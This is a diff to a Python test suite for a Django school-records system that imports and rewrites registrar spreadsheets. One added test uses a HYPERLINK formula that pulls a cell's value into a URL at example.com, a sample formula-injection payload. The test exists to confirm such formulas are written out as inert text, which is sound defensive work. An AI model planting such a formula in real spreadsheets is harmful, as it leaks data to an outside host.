@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import datetime
 import io
+from itertools import chain
 from unittest import mock
 
 import pytest
 from django.test import TestCase
 from django.utils import timezone
 from django_tasks_db.models import DBTaskResult
+from openpyxl import load_workbook
 
 from records import deliveries, imports, leases, tasks
 from records.cells import ErrorCell, FormulaCell
@@ -22,6 +24,7 @@ from records.programmes import Lists
 from records.rows import INDEX
 from records.tables import read_table
 from records.verification import check_stuck_batches
+from records.workbooks.limits import MAX_SAMPLE_TEXT
 from records.workbooks.reader import WorkbookRefused, read_headers, read_sheet
 from records.workbooks.writer import write_sheet
 from tests.deliveries import FOREIGN, as_proposed, delivered
@@ -149,7 +152,7 @@ def test_a_delivery_becomes_the_batch_that_the_template_would_have_become():
 
 
 def test_the_filled_template_has_the_20_columns_and_says_what_the_batch_says(tmp_path):
-    delivery = delivered([row(), row(電子郵件="壞的"), row(班級資料=FormulaCell('="四年"&"B班"', "四年B班"))])
+    delivery = delivered([row(), row(電子郵件="壞的")])
     batch = convert(delivery, as_proposed(delivery))
     path = tmp_path / "轉檔.xlsx"
     deliveries.write_filled(delivery, path)
@@ -158,6 +161,28 @@ def test_the_filled_template_has_the_20_columns_and_says_what_the_batch_says(tmp
     again = received(path)
     imports.read_and_plan(again)
     assert seen(ImportBatch.objects.get(pk=again.pk)) == seen(batch)
+
+
+def test_a_formula_of_the_delivery_calculates_nothing_in_the_filled_template(tmp_path):
+    formula = FormulaCell('=HYPERLINK("http://example.com/?x="&F2,"x")', "基隆市中正區北寧路2號")
+    delivery = delivered([row(聯絡住址=formula, 班級資料=FormulaCell('="四年"&"B班"', None))])
+    convert(delivery, as_proposed(delivery))
+    deliveries.write_filled(delivery, tmp_path / "轉檔.xlsx")
+    [_headers, cells] = load_workbook(tmp_path / "轉檔.xlsx").active.iter_rows()
+    written = {cell.value: cell.data_type for cell in cells}
+    assert written["基隆市中正區北寧路2號"] == "s" and "f" not in written.values()
+
+
+def test_of_a_text_that_fills_every_cell_only_the_beginning_is_looked_at(tmp_path):
+    """As many columns as may be that share one text as long as may be: 17 KB as a file, 800 MB as an answer."""
+    columns, long = 20, "x" * 5_000
+    rows = [
+        ["姓名", "學號", *(f"欄{n}" for n in range(columns - 3)), long],
+        *([long] * columns for _ in range(3)),
+    ]
+    found = read_headers(write_with_openpyxl(tmp_path / "長.xlsx", {"名冊": rows}), known=["姓名"], sample=30)
+    assert found.headers[:2] == ["姓名", "學號"]
+    assert max(map(len, [*found.headers, *chain(*found.samples)])) == MAX_SAMPLE_TEXT
 
 
 def test_row_numbers_are_those_of_the_registrars_file(tmp_path):
@@ -448,3 +473,20 @@ def test_a_delivery_without_any_people_is_refused(tmp_path):
         delivery = deliveries.receive(file, file_name=path.name, user=importer())
     assert convert(delivery, as_proposed(delivery)) is None
     assert delivery.state == State.REFUSED and "沒有任何資料" in delivery.error
+
+
+def test_an_answer_about_a_value_holds_where_a_formula_says_it_and_an_error_is_no_value():
+    rows = [row(在學狀態=FormulaCell('=IF(1,"應屆畢業","")', "應屆畢業")), row(在學狀態=ErrorCell("#N/A"))]
+    delivery = delivered(rows)
+    assert convert(delivery, as_proposed(delivery)) is None
+    assert delivery.open_details()["unknown"] == {"enrolment_status": [["應屆畢業", 1]]}
+    mapping = deliveries.mapping_of(delivery.mapping)
+    answers = {"enrolment_status": {"應屆畢業": "21-畢業"}}
+    answered = deliveries.Mapping(mapping.columns, mapping.joins, answers)
+    assert deliveries.settle(delivery, deliveries.save("答覆", answered, user=importer()))
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        batch = deliveries.convert(delivery)
+    imports.read_and_plan(batch)
+    translated, wrong = views(batch)
+    assert "畢業" in translated.values["在學狀態"] and "應屆" not in translated.values["在學狀態"]
+    assert any(remark[0] == "在學狀態" for remark in wrong.remarks)
